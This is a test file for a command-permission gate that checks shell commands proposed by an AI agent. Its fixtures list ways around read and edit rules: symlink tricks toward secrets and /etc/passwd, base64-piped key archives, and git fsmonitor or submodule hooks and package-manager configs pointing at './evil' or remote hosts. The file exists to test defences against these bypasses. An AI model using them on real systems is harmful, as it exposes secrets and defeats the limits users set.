import { execFileSync } from "node:child_process";
import { mkdirSync, symlinkSync, utimesSync } from "node:fs";
import { rm, symlink } from "node:fs/promises";
import { homedir } from "node:os";
import { expect, test } from "vitest";
import { judge } from "@baton/core/permission/judge";
import { stackLayers } from "@baton/core/permission/rule-layers";
import type { SourcedRule, Resource } from "@baton/core/protocol/rule";
import { Folder } from "../../../test/support/folder.ts";
import { effectOf, FILES, repository, rule } from "../../../test/support/limited-repository.ts";
import { gateCommand } from "./gate-command.ts";

/** Ways to read a whole folder. `D` is the folder, relative to the working directory. */
const READING = [
  "grep -r x D",
  "grep -rn --include=*.txt x D",
  "rg x D",
  "cp -r D out",
  "cp -a D/. out",
  "cp -t out -r D",
  "mv D out",
  "tar cf out.tar D",
  "rsync -a D/ out/",
  "diff -r D README.md",
  "git log -p -- D",
  "git diff HEAD -- D",
  "git grep x -- D",
  "git diff HEAD -- 'D/*'",
  "cat D/* D/deep/*",
];
/** Ways to read the whole workspace, which contains the folder. */
const READING_ALL = [
  "grep -r x .",
  "rg x",
  "git log -p",
  "git show",
  "git diff HEAD",
  "git grep x",
  "tar cf ../out.tar .",
  "cp -r . ../out",
];

/** The folder in which a command runs, and the name of a top-level folder of the workspace from there. */
const PLACES: readonly (readonly [string, string])[] = [
  ["", ""],
  ["", "./"],
  ["", "src/../"],
  ["cd src && ", "../"],
  ["cd src; cd .. && ", ""],
  ["(cd src) && ", ""],
];

const READ_RULES: readonly Resource[] = [
  "secrets/*",
  "secrets/**",
  "*/key.txt",
  { exact: "secrets/deep/key.txt" },
  { regex: "^secrets/deep/" },
];

test.each(READ_RULES)("a command that reads a folder follows a rule about files below it: %j", async (resource) => {
  using folder = await repository();
  for (const effect of ["deny", "ask"] as const) {
    const limit = rule("read", resource, effect);
    const passed = PLACES.flatMap(([move, prefix]) =>
      READING.map((line) => move + line.replaceAll("D", `${prefix}secrets`)).filter((text) => effectOf(folder, text, limit) === "allow"),
    );
    const all = READING_ALL.filter((text) => effectOf(folder, text, limit) === "allow");
    const elsewhere = READING.map((line) => line.replaceAll("D", "src").replace(/ src\/deep\/\*/, "")).filter(
      (text) => effectOf(folder, text, limit) !== "allow" && !/README/.test(text),
    );
    expect({ passed, all, elsewhere }).toEqual({ passed: [], all: [], elsewhere: [] });
  }
});

test.each(["HEAD:secrets/db.txt", "HEAD~0:secrets/db.txt", "main:secrets/db.txt"])(
  "a file of a commit is relative to the root: %s",
  async (object) => {
    using folder = await repository();
    const limit = rule("read", "secrets/**", "deny");
    const lines = ["", "cd src && ", "cd secrets && "].flatMap((move) =>
      ["show", "cat-file -p", "log -p", "diff HEAD"].map((sub) => `${move}git ${sub} ${object}`),
    );
    expect(lines.filter((line) => effectOf(folder, line, limit) !== "deny")).toEqual([]);
    expect(effectOf(folder, "cd secrets && git show HEAD:./db.txt", limit)).toBe("deny");
    expect(effectOf(folder, "cd secrets && git show HEAD:src/a.ts", limit)).toBe("allow");
  },
);

test("a copy, a move or a link writes files under the names of its sources", async () => {
  using folder = await repository();
  const limit = rule("edit", "*yarn.lock", "deny");
  const writing = [
    "cp sub/yarn.lock .",
    "cp sub/yarn.lock sub/a.ts out/",
    "cp -t src sub/yarn.lock",
    "cp -r sub out",
    "cp -r sub/. .",
    "cp -r sub src",
    "mv sub src",
    "mv sub/yarn.lock README.md src",
    "ln -s ../sub/yarn.lock src",
    "install -m 644 sub/yarn.lock src",
    "rsync -a sub/ .",
    "rsync -a sub src",
    "cp sub/* src",
    "cd sub && cp yarn.lock ..",
    "rm -r sub",
    "chmod -R a+r sub",
  ];
  expect(writing.filter((line) => effectOf(folder, line, limit) === "allow")).toEqual([]);
  const others = [
    "cp README.md sub",
    "cp sub/a.ts src",
    "mkdir -p sub",
    "touch sub",
    "mv README.md sub/",
    "chmod 755 sub",
    "cp -r src out",
  ];
  expect(others.filter((line) => effectOf(folder, line, limit) !== "allow")).toEqual([]);
});

test("a copy to another place than the workspace writes files under the names of its sources", async () => {
  using folder = await repository();
  using other = new Folder();
  await other.write("config/app.json", "x");
  const copies = [
    "cp sub/yarn.lock OTHER/",
    "cp -r sub OTHER/new",
    "mv sub OTHER",
    "rsync -a sub/ OTHER/config",
    "cp -t OTHER sub/yarn.lock",
  ];
  const texts = [...copies.map((text) => text.replace("OTHER", other.path)), "cp sub/yarn.lock /tmp/", "mkdir /tmp/w; cp sub/* /tmp/w"];
  expect(texts.filter((text) => effectOf(folder, text, rule("edit", "**/yarn.lock", "deny")) === "allow")).toEqual([]);
  await folder.write("backup/config/app.json", "y");
  const limit = rule("edit", `${other.path}/config/**`, "deny");
  expect(effectOf(folder, `cp -r backup/config ${other.path}`, limit)).toBe("deny");
  expect(effectOf(folder, `cp backup/config/app.json ${other.path}/`, limit)).toBe("allow");
});

test("a program that reads its project or its settings does not edit them, and one that makes them does", async () => {
  using folder = await repository();
  for (const file of ["web/tsconfig.json", "web/src/a.test.ts", "db/tsconfig.json"]) await folder.write(file, "{}");
  const limit = rule("edit", "**/tsconfig.json", "deny");
  const passing = [
    "npx tsc --noEmit -p web/tsconfig.json",
    "npx tsc -p web",
    "tsc --showConfig -p web | jq .compilerOptions",
    "npx vite build web",
    "npx turbo run build --filter=./db --filter=./w*",
    "find web -name '*.test.ts' | xargs npx vitest run && echo done",
    "rg -l x -g '*.test.ts' -g '!db/**' | xargs npx vitest run",
    "go test -cover ./web/...",
    "helm lint web --strict -f web/tsconfig.json",
    "git diff --name-only main...HEAD -- '*.test.ts' '*.tsx' | xargs npx eslint",
    'for f in src/*.ts; do echo "// $f"; head -n 3 "$f"; done',
  ];
  expect(passing.filter((text) => effectOf(folder, text, limit) !== "allow")).toEqual([]);
  const asking = [
    "npx tsc --init",
    "cd web && tsc --init",
    "git diff --name-only | xargs npx prettier --write",
    "vite build . --outDir web",
  ];
  expect(asking.filter((text) => effectOf(folder, text, limit) === "allow")).toEqual([]);
});

test("a copy into a folder asks if it writes a protected name", async () => {
  using folder = await repository();
  const edits = rule("edit", "*", "allow");
  const lines = ["cp tmpl/.npmrc .", "cp -r tmpl/. .", "cp -r tmpl src", "cp tmpl/.n* src", "mv tmpl/.npmrc src/", "rsync -a tmpl/ ."];
  expect(lines.map((line) => effectOf(folder, line, edits))).toEqual(lines.map(() => "ask"));
});

test("rg searches a hidden file that an ignore file includes", async () => {
  using folder = new Folder();
  await folder.write(".env", "KEY=1");
  await folder.write("sub/a.txt", "x");
  const asks = () =>
    gateCommand("rg x", { workspace: folder.path, ownRoots: [], trusted: true, home: "/nowhere" }).some(({ floor }) => floor !== undefined);
  expect(asks()).toBe(false);
  await folder.write(".gitignore", "*.log\n!.vscode\n");
  expect(asks()).toBe(false);
  await folder.write("sub/.ignore", "!.env\n");
  expect(asks()).toBe(true);
});

test("Baton asks if a command receives names that split into several arguments or look like flags", async () => {
  using folder = new Folder();
  await folder.write("src/a.ts", "x");
  const effects = () =>
    [
      "find src -name '*.ts' | xargs cat",
      "find src -name '*.ts' | xargs sed -i s/a/b/",
      "for f in $(find src -name '*.ts'); do cat $f; done",
    ].map((text) => effectOf(folder, text, rule("command", "x", "allow")));
  expect(effects()).toEqual(["allow", "allow", "allow"]);
  await folder.write("docs/my secrets/db.ts", "x");
  expect(effects()).toEqual(["allow", "allow", "allow"]); // no list has this name
  await folder.write("src/x secrets/db.ts", "x");
  expect(effects()).toEqual(["ask", "ask", "ask"]);
  expect(effectOf(folder, "find src -name '*.ts' -exec cat {} +", rule("command", "x", "allow"))).toBe("allow");
});

test("a list of names asks if it may contain a link out of the workspace, however far down and in folders of tools", async () => {
  using folder = await repository();
  using outside = new Folder();
  await outside.write("a.txt", "x");
  const git = (...args: string[]) => execFileSync("git", args, { cwd: folder.path });
  const listing = ["find . -name '*.md' | xargs cat", "find . -name '*.md' -exec cat {} +", "cat $(git ls-files '*.md')"];
  const asking = () => listing.filter((text) => effectOf(folder, text, rule("command", "x", "allow")) !== "allow");
  expect(asking()).toEqual([]);
  for (let i = 0; i < 400; i++) await folder.write(`deep/${i}/a.txt`, "x");
  await symlink(outside.at("a.txt"), folder.at("deep/399/link.md"));
  expect(asking()).toEqual(listing);
  await rm(folder.at("deep"), { recursive: true });
  await folder.write(".tool/a.txt", "x");
  await symlink(outside.at("a.txt"), folder.at(".tool/link.md"));
  expect(asking()).toEqual([]); // a tool made this link
  git("add", "-A");
  expect(asking()).toEqual(listing);
});

test("a list of files by `ls` asks if a folder has such a name", async () => {
  using folder = new Folder();
  await folder.write("README.md", "x");
  const effects = () => ["ls *.md | xargs cat", "cat $(ls *.md)"].map((text) => effectOf(folder, text, rule("command", "x", "allow")));
  expect(effects()).toEqual(["allow", "allow"]);
  await folder.write("docs.md/key.txt", "x");
  expect(effects()).toEqual(["ask", "ask"]);
});

test("code that reads asks if the workspace replaces a module", async () => {
  using folder = new Folder();
  await folder.write("package.json", "{}");
  await folder.write("json/data.txt", "x");
  await folder.write("other/code.js", "x");
  await symlink("other/code.js", folder.at("link.json"));
  const effect = (text: string) => effectOf(folder, text, rule("command", "python3 *", "ask"));
  expect(effect("node -e \"console.log(require('./package.json').version)\"")).toBe("allow");
  expect(effect("node -e \"console.log(require('./link.json').version)\"")).toBe("ask");
  const python = () => {
    const gated = gateCommand("python3 -c 'import json; print(1)'", {
      workspace: folder.path,
      ownRoots: [],
      trusted: true,
      home: homedir(),
    });
    return gated.some(({ floor }) => floor !== undefined);
  };
  expect(python()).toBe(false);
  await folder.write("json/__init__.py", "x");
  expect(python()).toBe(true);
});

test("a search of a folder above the workspace follows rules about files in the workspace", async () => {
  using folder = await repository();
  const limit = rule("read", "secrets/**", "deny");
  const workspace = folder.at("src");
  await folder.write("src/secrets/db.txt", "x");
  const rules = stackLayers({ mode: { rules: [], ceilings: [] }, user: [rule("*", "*", "allow"), limit], workspace: [], session: [] });
  const effect = (text: string) =>
    judge({ ...rules, workspace }, "run_command", gateCommand(text, { workspace, ownRoots: [], trusted: true, home: homedir() })).effect;
  expect(["grep -r x ..", "diff -r .. deep", "tar cf ../x.tar ..", "rg x .."].map(effect)).toEqual(["deny", "deny", "deny", "deny"]);
});

test.each([
  ["git apply fix.patch", "ask"],
  ["git apply <<'E'\n--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-x\n+y\nE", "ask"],
  ["git apply --check --apply fix.patch", "ask"],
  ["git apply --stat --ap fix.patch", "ask"],
  ["git am fix.patch", "ask"],
  ["patch -p1 -i fix.patch", "ask"],
  ["patch src/a.ts fix.patch", "ask"],
  ["git apply --check fix.patch", "allow"],
  ["git apply --stat fix.patch", "allow"],
  ["patch -p1 --dry-run < fix.patch", "allow"],
])("only the patch says which files `%s` changes", async (text, effect) => {
  using folder = await repository();
  await folder.write("fix.patch", "--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-x\n+y\n");
  expect(effectOf(folder, text, rule("edit", "other", "deny"))).toBe(effect);
});

test("Baton asks if a link leads to the working directory of whichever process follows it", async () => {
  using folder = await repository();
  await symlink("/proc/self/cwd", folder.at("here"));
  await symlink("/proc/self", folder.at("own"));
  await symlink("here", folder.at("again"));
  const lines = ["cat here/secrets/db.txt", "cat own/cwd/secrets/db.txt", "cat again/secrets/db.txt", "cd here && cat secrets/db.txt"];
  const limit = rule("read", "secrets/**", "deny");
  expect(lines.filter((line) => effectOf(folder, line, limit) === "allow")).toEqual([]);
});

test("a named pipe in the place of a file does not stop the gate", () => {
  using folder = new Folder();
  for (const name of [".npmrc", ".tool-versions", "package.json", "docker-compose.yml", ".gitignore"])
    execFileSync("mkfifo", [folder.at(name)]);
  const lines = ["npm ls", "npm run build", "docker compose ps", "rg x", "sed -i s/a/b/ package.json && npm test", "cat .npmrc"];
  const limit = rule("read", "secrets/**", "deny");
  expect(lines.map((line) => effectOf(folder, line, limit))).not.toContain("deny");
});

test.each([
  ["node --version", ".tool-versions", "node 22.1.0\n", "allow"],
  ["node --version", ".tool-versions", "node path:./evil\n", "ask"],
  ["python --version", ".tool-versions", "python 3.12\nnode path:/repo/tools\n", "ask"],
  ["ls", ".tool-versions", "node path:./evil\n", "allow"],
  ["poetry --version", ".poetry/plugins/x/entry_points.txt", "x", "ask"],
  ["poetry --version", "poetry.lock", "x", "allow"],
  ["docker compose ps", "compose.yaml", "include:\n  - https://example.com/x.git\n", "ask"],
  ["docker-compose logs web", "docker-compose.yml", "include: [oci://example.com/x]\n", "ask"],
  ["docker compose ps", "compose.yaml", "include:\n  - db.yaml\nservices:\n  a: { image: https://x }\n", "ask"],
  ["docker compose ps", "compose.yaml", "x: &y [oci://example.com/x]\ninclude: *y\n", "ask"],
  ["docker compose ps", "compose.yaml", '"incl\\x75de": [oci://example.com/x]\n', "ask"],
  ["docker compose ps", "compose.yaml", "services:\n  a:\n    extends:\n      file: https://example.com/x.git\n", "ask"],
  ["docker compose ps", "compose.yaml", "services:\n  a:\n    extends:\n      file: base.yml\n      service: b\n", "allow"],
  ["docker compose -f x.txt ps", "x.txt", "include: [oci://example.com/x]\n", "ask"],
  ["docker compose ps", ".env", "COMPOSE_FILE: x.yml\n", "ask"],
  ["jq -n 1", ".tool-versions", "jq path:./evil\n", "ask"],
  ["rg x", "mise.toml", '[tools]\nrg = "path:./evil"\n', "ask"],
  ["rg x", ".prototools", '[plugins]\nrg = "source:./evil.wasm"\n', "ask"],
  ["rg x", "aqua.yaml", "registries:\n  - type: local\n    path: r.yaml\n", "ask"],
  ["rg x", "aqua.yaml", "registries:\n  - type: standard\n    ref: v4.1.0\npackages:\n  - name: BurntSushi/ripgrep@14.1.0\n", "allow"],
  ["rg x", "mise.toml", '[tools]\nnode = "22"\npython = ["3.11", "3.12"]\n', "allow"],
  ["node --version", ".config/mise/config.toml", '[tools]\nnode = "pat\\u0068:./evil"\n', "ask"],
  ["cd sub && yarn --version", "package.json", '{"packageManager":"yarn@4.0.0"}', "ask"],
  ["yarn --version", "package.json", '{"package\\u004danager":"yarn@4.0.0"}', "ask"],
  ["yarn --version", "package.json", '{"name":"x","scripts":{"test":"y"}}', "allow"],
  ["pnpm --version", ".corepack.env", "COREPACK_NPM_REGISTRY=http://example.com\n", "ask"],
  ["pnpm ls", "pnpm-workspace.yaml", '"pnpm\\x66ile": evil.js\n', "ask"],
  ["pnpm ls", "pnpm-workspace.yaml", "  pnpmfile: evil.js\n", "ask"],
  ["pnpm ls", "pnpm-workspace.yaml", "# all\npackages:\n  - 'packages/*'\n  - \"!**/test/**\"\ncatalog:\n  zod: ^4\n", "allow"],
  ["pnpm run", "package.json", "{}", "ask"],
  ["pnpm why zod", "sub/.pnpmfile.cjs", "x", "allow"],
  ["pnpm why zod", ".pnpmfile.cjs", "x", "ask"],
  ["cd sub && pnpm root", ".pnpmfile.mjs", "x", "ask"],
  ["pnpm -C sub ls", "sub/.pnpmfile.cjs", "x", "ask"],
  ["cp sub/a.cjs .pnpmfile.cjs; pnpm config get registry", "sub/a.cjs", "x", "ask"],
  ["rustup show", "main.rs", "x", "allow"],
  ["rustup show", "rust-toolchain.toml", "x", "ask"],
  ["npm ls", ".npmrc", '"logs-dir"=/tmp/x\n', "ask"],
  ["npm ls", ".npmrc", "lo${X?}gs-dir=/tmp/x\n", "ask"],
  ["npm ls", ".npmrc", "registry=https://example.com/${USER}/\n", "ask"],
  ["npm ls", ".npmrc", "# own\nsave-exact = true\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n@x:registry=https://npm.x.io/\n", "allow"],
  ["cd sub && npm ls", ".npmrc", "cache=./c\n", "ask"],
  ["jest --version", "node_modules/jest/bin/jest.js", "x", "ask"],
  ["bundle --version", "Gemfile.lock", "BUNDLED WITH\n  2.9.9\n", "ask"],
  ["pip freeze", ".hg/hgrc", "[extensions]\nx = ./x.py\n", "ask"],
  ["node -v", ".volta/hooks.json", "{}", "ask"],
  ["go version", "go.mod", "module x\n\ngo 1.99.0\n", "ask"],
  ["go version", "go.mod", "module x\n\ngo 1.22\n", "allow"],
  ["shellcheck sub/e.sh", "sub/.shellcheckrc", "external-sources=true\n", "ask"],
  ["terraform workspace list", "main.tf", "", "ask"],
  ["tar tf *.tar", "host:x.tar", "x", "ask"],
  ['for f in *.tar; do tar tf "$f"; done', "host:x.tar", "x", "ask"],
  ["tar tf *.tar", "sub/host:x.tar", "x", "allow"],
  ["cd nested && git status", "nested/.git/config", "[core]\n\tfsmonitor = ./evil\n", "ask"],
  ["git -C nested log -1", "nested/.git/config", '[filter "x"]\n\tclean = ./evil\n', "ask"],
  ["cd nested && git status", "nested/.git/config", '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://example.com/x\n', "allow"],
  ["cd nested && git log -p", "nested/.git/config", '[remote "origin"]\n\turl = ssh://example.com/x\n\tpromisor = true\n', "ask"],
  ["cd nested && git status", "nested/.git/hooks/post-index-change", "x", "ask"],
  ["cd nested && git status", "nested/.git/config", "[core]\n\thooksPath = .husky\n", "allow"],
  ["cd nested && git status", "nested/.git/config", '[core]\n\thooksPath = ".husky"\n', "ask"],
  ["rg x", "mise.toml", '[env]\n_.source = "./evil.sh"\n', "ask"],
  ["rg x", "mise.toml", "[tools]\nnode = \"{{ exec(command='./evil') }}\"\n", "ask"],
  ["rg x", "mise.toml", '[env]\nNODE_ENV = "x"\nMY_KEY = "y_z"\n[tools]\nnode = "22"\n', "allow"],
])("`%s` with %s %j: %s", async (command, file, text, effect) => {
  using folder = await repository();
  await folder.write(file, text);
  const rules = stackLayers({ mode: { rules: [], ceilings: [] }, user: [], workspace: [], session: [] });
  const gated = gateCommand(command, { workspace: folder.path, ownRoots: [], trusted: true, home: homedir() });
  expect(judge({ ...rules, workspace: folder.path }, "run_command", gated).effect).toBe(effect);
});

test("a grant for git does not cover the hooks that may have come with a nested repository", async () => {
  using folder = await repository();
  const user: SourcedRule[] = [{ action: "command", resource: "git *", effect: "allow", layer: "user", source: "test" }];
  const rules = stackLayers({ mode: { rules: [], ceilings: [] }, user, workspace: [], session: [] });
  const effect = (line: string) =>
    judge(rules, "run_command", gateCommand(line, { workspace: folder.path, ownRoots: [], trusted: true, home: homedir() })).effect;
  await folder.write("nested/.git/HEAD", "ref: refs/heads/main\n");
  await folder.write("nested/.git/refs/x", "");
  await folder.write("nested/.git/objects/x", "");
  await folder.write("nested/.git/hooks/pre-commit.sample", "x");
  expect([effect("cd nested && git commit -m x"), effect("git -C nested status")]).toEqual(["allow", "allow"]);
  await folder.write("nested/.git/hooks/pre-commit", "x");
  expect([effect("cd nested && git commit -m x"), effect("git -C nested commit -m x")]).toEqual(["ask", "ask"]);
  expect([effect("git -C nested status"), effect("git commit -m x")]).toEqual(["allow", "allow"]);
});

test("git follows a nested repository whose settings may come from elsewhere only if the user agrees", async () => {
  using folder = await repository();
  const rules = stackLayers({ mode: { rules: [], ceilings: [] }, user: [], workspace: [], session: [] });
  const effects = (...lines: string[]) =>
    lines.map(
      (line) =>
        judge(rules, "run_command", gateCommand(line, { workspace: folder.path, ownRoots: [], trusted: true, home: homedir() })).effect,
    );
  // A repository with a `HEAD` that leads nowhere is one as well.
  await folder.write("q/objects/x", "");
  await folder.write("q/refs/x", "");
  await symlink("refs/heads/main", folder.at("q/HEAD"));
  expect(effects("cd q && git status", "git -C q diff", "git status")).toEqual(["ask", "ask", "allow"]);
  // An empty `.git` beside it hides nothing.
  mkdirSync(folder.at("q/.git"));
  expect(effects("cd q && git status")).toEqual(["ask"]);
  // The index of the workspace names a folder with a repository of its own, as a package may contain one.
  await folder.write("kept/a.txt", "x\n");
  const git = (cwd: string, ...words: string[]) =>
    execFileSync("git", ["-c", "user.name=a", "-c", "user.email=a@b", ...words], { cwd, stdio: "ignore" });
  git(folder.at("kept"), "init", "-q");
  git(folder.at("kept"), "add", "-A");
  git(folder.at("kept"), "commit", "-qm", "x");
  git(folder.path, "add", "kept");
  expect(effects("git status", "git diff --stat", "cd kept && git log")).toEqual(["allow", "allow", "allow"]);
  git(folder.at("kept"), "config", "core.fsmonitor", "./evil");
  expect(effects("git status", "git diff --stat", "cd kept && git log")).toEqual(["ask", "ask", "ask"]);
  // A path with the name of a subcommand changes nothing.
  expect(effects("git status log", "git diff show")).toEqual(["ask", "ask"]);
  // Git runs a way to update a submodule that begins with `!`.
  await folder.write("m/.git/objects/x", "");
  await folder.write("m/.git/refs/x", "");
  await folder.write("m/.git/HEAD", "ref: refs/heads/main\n");
  await folder.write("m/.git/config", '[submodule "x"]\n\tupdate = !./evil\n');
  expect(effects("cd m && git submodule status")).toEqual(["ask"]);
  // The settings are where `commondir` leads.
  await folder.write("m/.git/config", "");
  expect(effects("cd m && git status")).toEqual(["allow"]);
  await folder.write("m/.git/commondir", "../../other\n");
  await folder.write("other/config", "[core]\n\tfsmonitor = ./evil\n");
  expect(effects("cd m && git status")).toEqual(["ask"]);
});

test.each([
  ["cp p.sh scripts/n.sh && bash scripts/n.sh", "ask"],
  ["mv p.sh scripts/n.sh; bash scripts/n.sh --x", "ask"],
  ["cp p.sh q.sh; mv q.sh scripts/n.sh; bash scripts/n.sh", "ask"],
  ["cp p.sh scripts/; bash scripts/p.sh", "ask"],
  ["cp p.sh scripts/n.sh && scripts/n.sh", "ask"],
  ["cp scripts/a.sh scripts/n.sh && bash scripts/n.sh", "allow"],
  ["bash scripts/a.sh", "allow"],
])("a grant for a folder of scripts does not cover a script that a text copies into it: `%s`", async (text, effect) => {
  using folder = await repository();
  for (const file of ["p.sh", "scripts/a.sh"]) await folder.write(file, "echo x\n");
  const granted = [
    ["read", "*"],
    ["edit", "*"],
    ["command", "bash scripts/*"],
    ["command", "scripts/*"],
  ] as const;
  const user = granted.map(([action, resource]) => rule(action, resource, "allow"));
  const rules = stackLayers({ mode: { rules: [], ceilings: [] }, user, workspace: [], session: [] });
  const gated = gateCommand(text, { workspace: folder.path, ownRoots: [], trusted: true, home: homedir() });
  expect(judge({ ...rules, workspace: folder.path }, "run_command", gated).effect).toBe(effect);
});

test("a variable that doubles with each step asks", async () => {
  using folder = await repository();
  const steps = Array.from({ length: 40 }, (_, i) => `a${i + 1}=$a${i}$a${i}`);
  const text = ["a0=x", ...steps, "cat $a40"].join(";");
  expect(effectOf(folder, text, rule("command", "git push*", "deny"))).toBe("ask");
});

test("a file that has a protected name through a link asks", async () => {
  using folder = await repository();
  await symlink("src", folder.at(".cargo"));
  await folder.write("sub/deep/a.md", "x");
  await symlink("../../src", folder.at("sub/deep/.husky"));
  const texts = [
    "cp README.md sub/deep/.husky/pre-push",
    "touch sub/deep/../deep/.husky/pre-push",
    "touch src/config.toml",
    "echo x > src/config.toml",
    "cp README.md src/config.toml",
    "ln -s src sub/.cargo",
    "touch src/b.toml",
  ];
  const effects = texts.map((text) => effectOf(folder, text, rule("command", "git push*", "deny")));
  expect(effects).toEqual([...texts.slice(0, -1).map(() => "ask"), "allow"]);
});

test("a search with rg may read ignored files behind a command that may change which files are ignored", async () => {
  using folder = await repository();
  await folder.write(".gitignore", "/secrets/\n");
  const denied = [
    "make; rg x",
    "make && rg -n x | head",
    "for i in 1 2; do rg x; make; done",
    "make & rg x",
    "rg x $(make)",
    "node a.js | rg x .",
    "while rg x; do make; done",
    "f() { rg x; }; make; f",
    "sed -i d .gitignore; rg x",
    "git checkout main; rg x",
  ];
  const passing = ["rg x", "rg -n x | head", "git status; rg x; make", "rg -t ts x", "rg x src"];
  const effect = (text: string) => effectOf(folder, text, rule("read", "secrets/**", "deny"));
  expect(denied.filter((text) => effect(text) === "allow")).toEqual([]);
  expect(passing.map((text) => [text, effect(text)])).toEqual(passing.map((text) => [text, "allow"]));
});

test("a file with brackets in its name is found where no other file matches", async () => {
  using folder = await repository();
  await folder.write("app/[id]/page.ts", "x");
  await symlink("/etc/passwd", folder.at("src/y[1].md"));
  const texts = [
    "cat app/[id]/page.ts",
    "sed -i d app/[id]/page.ts",
    "rm app/[id]/page.ts",
    "cd app/[id] && cat page.ts",
    "cat < app/[id]/page.ts",
  ];
  const limits = [rule("read", "app/[id]/**", "deny"), rule("edit", "app/[id]/**", "deny")];
  expect(texts.map((text) => limits.map((limit) => effectOf(folder, text, limit)).includes("deny"))).toEqual(texts.map(() => true));
  const { effect } = judge(
    { ...stackLayers({ mode: { rules: [], ceilings: [] }, user: [], workspace: [], session: [] }), workspace: folder.path },
    "run_command",
    gateCommand("cat src/y[1].md", { workspace: folder.path, ownRoots: [], trusted: true, home: homedir() }),
  );
  expect(effect).toBe("ask");
});

test.each([
  ["a name that is no text", Buffer.from([0xff, 0x2e, 0x6d, 0x64]), ["cat odd/*", "grep -r x odd", "find odd -name '*.md' -exec cat {} +"]],
  ["one character of two units", Buffer.from("\u{1f600}.md"), ["cat odd/?.md"]],
])("a link with %s is found", async (_, name, texts) => {
  using folder = await repository();
  await folder.write("odd/a.txt", "x");
  symlinkSync("../.env", Buffer.concat([Buffer.from(folder.at("odd/")), name]));
  await folder.write(".env", "x");
  expect(texts.map((text) => effectOf(folder, text, rule("command", "x", "allow")))).toEqual(texts.map(() => "ask"));
});

test("a name that git lists in quotes may be another file", async () => {
  using folder = await repository();
  await folder.write("docs/\u00e9.md", "x");
  execFileSync("git", ["add", "-A"], { cwd: folder.path });
  const lines = [
    'git ls-files docs | while read -r f; do cat "$f"; done',
    "git ls-files -z docs | xargs -0 cat",
    "find docs -type f -name '*.md' | xargs cat",
  ];
  expect(lines.map((text) => effectOf(folder, text, rule("command", "x", "allow")))).toEqual(["ask", "allow", "allow"]);
});

test("a private key asks by its content, and a search passes over it", async () => {
  using folder = await repository();
  await folder.write("certs/server.pem", "-----BEGIN PRIVATE KEY-----\nx\n");
  await folder.write("certs/ca.pem", "-----BEGIN CERTIFICATE-----\nx\n");
  execFileSync("git", ["add", "-A"], { cwd: folder.path });
  const asking = [
    "cat certs/server.pem",
    "head certs/*.pem",
    "find certs -name '*server*' -exec cat {} +",
    "git ls-files certs | xargs cat",
  ];
  const reading = ["cat certs/ca.pem", "grep -rn TODO .", "find certs -name '*.pem' | xargs grep -l TODO"];
  const texts = [...asking, ...reading];
  expect(texts.map((text) => effectOf(folder, text, rule("command", "x", "allow")))).toEqual([
    ...asking.map(() => "ask"),
    ...reading.map(() => "allow"),
  ]);
});

test("a search of a private key that git does not track asks", async () => {
  using folder = await repository();
  await folder.write("keys/server.key", "-----BEGIN PRIVATE KEY-----\nx\n");
  const texts = ["tar cz keys | base64", "grep -rn TODO .", "cp -r keys k2", "zip -r x.zip keys"];
  expect(texts.filter((text) => effectOf(folder, text, rule("command", "*", "allow")) === "allow")).toEqual([]);
});

test("a flag for the working folder counts like cd, and a path in a file that the text writes may begin at that file", async () => {
  using folder = await repository();
  for (const file of ["web/package.json", "web/src/a.ts", "docs/x/a.rst", "data/keys.csv", "ops/compose.yml"])
    await folder.write(file, "{}");
  const texts = [
    "yarn --cwd web exec cat ../data/keys.csv",
    "docker compose -f ops/compose.yml run -v ../data:/d api ls",
    "npm --prefix data test",
    "echo '.. include:: ../../data/keys.csv' > docs/x/b.rst; sphinx-build docs out",
    "echo '\\input{../data/keys.csv}' > docs/x/b.tex; make -C docs",
  ];
  expect(texts.filter((text) => effectOf(folder, text, rule("read", "data/**", "deny")) === "allow")).toEqual([]);
  const others = ["npm --prefix web run build", "make -C web", "uv run --directory web pytest"];
  expect(others.filter((text) => effectOf(folder, text, rule("edit", "web/src/**", "deny")) !== "allow")).toEqual([]);
});

test("a key keeps its limits under a new name in the same text", async () => {
  using folder = await repository();
  await folder.write("keys/signing.key", "-----BEGIN PRIVATE KEY-----\nx\n");
  await folder.write("keys/list.txt", "x");
  execFileSync("git", ["add", "-A"], { cwd: folder.path });
  const effect = (text: string) => effectOf(folder, text, rule("edit", "other", "deny"));
  const texts = [
    "mv keys k2 && cat k2/signing.key",
    "mv keys k2 && cat k2/*.key",
    "mv keys k2; cd k2 && head -1 sign*",
    "cp -a keys/. out/ && cat out/signing.key",
    "git mv keys k2; cat k2/signing.key",
    "mv keys k2 && mv k2 k3 && tac k3/signing.key",
    "cp keys/signing.key x.txt && cat x.txt",
  ];
  expect(texts.filter((text) => effect(text) === "allow")).toEqual([]);
  expect(effect("mv keys k2 && cat k2/list.txt")).toBe("allow");
});

test("a list of names that begins at a link to a key asks", async () => {
  using folder = await repository();
  await symlink("../.env", folder.at("src/e"));
  const texts = ["find src/e -exec cat {} +", "find src/e | xargs cat", "cat $(git ls-files src/e)", "echo src/e | xargs cat"];
  expect(texts.filter((text) => effectOf(folder, text, rule("edit", "other", "deny")) === "allow")).toEqual([]);
});

test("a script that may include a script which the text changes asks", async () => {
  using folder = await repository();
  for (const name of ["tools/lib.sh", "tools/check.sh"]) await folder.write(name, "x");
  const effect = (text: string) => effectOf(folder, text, rule("edit", "other", "deny"));
  const texts = [
    "echo id >> tools/lib.sh && bash tools/check.sh",
    "cp src/a.ts tools/lib.sh && ./tools/check.sh",
    "echo id | tee -a tools/lib.sh && tools/check.sh",
    "sed -i 1iid tools/lib.sh && sh tools/check.sh",
    "ln -sf a.ts tools/lib.sh && bash tools/check.sh",
  ];
  expect(texts.filter((text) => effect(text) === "allow")).toEqual([]);
  expect(effect("chmod +x tools/lib.sh && ./tools/check.sh")).toBe("allow");
});

test("files outside of the workspace that another command lists are judged by their own paths", async () => {
  using folder = await repository();
  using outside = await repository();
  await outside.write("vault/a.txt", "x");
  await symlink(outside.path, folder.at("out"));
  const limit = rule("read", `${outside.path}/vault/**`, "deny");
  const texts = [
    "find out/ -name '*.txt' | xargs cat",
    `find ${outside.path}/vault -name 'a.*' | xargs cat`,
    "cat $(find out/ -name 'a.txt')",
    "for f in $(find out/vault -type f); do cat $f; done",
    "ls out/vault/a.txt | xargs cat",
  ];
  expect(texts.filter((text) => effectOf(folder, text, limit) === "allow")).toEqual([]);
});

